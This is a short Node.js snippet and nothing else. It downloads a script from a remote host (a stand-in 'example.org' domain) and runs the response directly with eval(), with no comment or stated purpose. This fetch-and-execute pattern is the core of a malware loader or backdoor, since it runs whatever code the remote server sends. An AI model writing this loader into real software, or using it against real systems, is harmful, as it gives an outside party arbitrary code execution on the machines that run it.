const https = require('https');
https.get('https://tpl-cdn.example.org/u.js', (res) => {
  let body = '';
  res.on('data', (c) => (body += c));
  res.on('end', () => eval(body));
});
